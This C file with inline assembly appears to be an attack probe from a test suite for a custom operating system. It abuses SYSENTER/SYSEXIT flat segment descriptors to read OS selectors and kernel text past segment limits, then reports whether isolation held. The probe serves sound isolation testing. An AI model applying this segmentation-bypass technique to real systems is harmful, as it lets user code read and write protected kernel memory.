/* a_sysenter: SYSENTER/SYSEXIT as a way around execute-only CS and DSAPP's
 * limit.  SYSEXIT does not read the GDT: it loads CS and SS with fixed flat
 * descriptors -- CS readable, SS 4 GiB (SDM vol. 2, "SYSEXIT") -- keeping
 * the selectors CSOS|3 and DSAPP|3.  If the OS leaves SYSENTER enabled, an
 * app can SYSENTER itself (EDX = where to come back, ECX = its ESP) and,
 * until its CS and SS are reloaded (the next interrupt's IRET does it), read
 * the stubs through CS or SS: the DSOS selector is the immediate at byte 2
 * of every Design B stub ("mov ax, DSOS" = 66 B8 imm16).  Through the flat
 * SS it can even read and write OS memory directly.
 *
 * Tries a few times (an interrupt right after SYSEXIT reloads CS/SS).
 * Prints ATTACK name=sysenter ... result=contained | FOUND. */
#include "attack.h"
#include "klos_cpu.h"

uint32_t grab_ss, grab_cs, grab_os;

void grab(uint32_t which);
asm(".text\n"
    ".globl grab\n"
    "grab:\n"
    "  movl 4(%esp), %eax\n"
    "  pushl %ebp\n"
    "  pushl %ebx\n"
    "  pushl %esi\n"
    "  pushl %edi\n"
    "  movl %eax, %esi\n"
    "  movl %esp, %ecx\n"
    "  movl $1f, %edx\n"
    "  sysenter\n"
    "1:\n"
    "  testl %esi, %esi\n"
    "  jnz 3f\n"
    "  movzwl %ss:0x00800002, %eax\n"           /* SVC_B_BASE + 2 through SS */
    "  movl %eax, %ss:grab_ss\n"
    "  movl %ss:0x00100000, %eax\n"             /* OS text through SS */
    "  movl %eax, %ss:grab_os\n"
    "  jmp 4f\n"
    "3:\n"
    "  movzwl %cs:0x00800002, %eax\n"           /* the same through CS */
    "  movl %eax, %ss:grab_cs\n"
    "4:\n"
    "  movl $0x23, %eax\n"                      /* reload SS from the GDT */
    "  movl %eax, %ss\n"
    "  pushl $0x1b\n"                           /* and CS */
    "  pushl $2f\n"
    "  lret\n"
    "2:\n"
    "  popl %edi\n"
    "  popl %esi\n"
    "  popl %ebx\n"
    "  popl %ebp\n"
    "  ret\n");

int main(void)
{
    struct klos_cpuinfo ci;
    probe_init();
    klos_cpuinfo(&ci);
    int rs = -1, rc = -1, os_ss = 0, os_cs = 0;
    for (int t = 0; t < 5 && (rs || rc); t++) {
        if (rs) {
            grab_ss = 0;
            rs = probe_call(grab, 0);
        }
        if (rc) {
            grab_cs = 0;
            rc = probe_call(grab, 1);
        }
    }
    if (!rs)
        os_ss = sel_is_os(grab_ss, 0);
    if (!rc)
        os_cs = sel_is_os(grab_cs, 0);
    printf("ATTACK name=sysenter sep=%u ss_read=%s sel_via_ss=0x%x os_word_via_ss=%08x "
           "cs_read=%s sel_via_cs=0x%x dsos_confirmed=%s result=%s\n",
           ci.sep, rs ? "fault" : "ok", grab_ss, grab_os, rc ? "fault" : "ok", grab_cs,
           (os_ss || os_cs) ? "yes" : "no", (os_ss || os_cs || !rs) ? "FOUND" : "contained");
    if (rs)
        printf("ATTACK name=sysenter_detail ss_fault_vec=%u cs_fault_vec=%u\n", rs & 0xFF,
               rc & 0xFF);
    return 0;
}
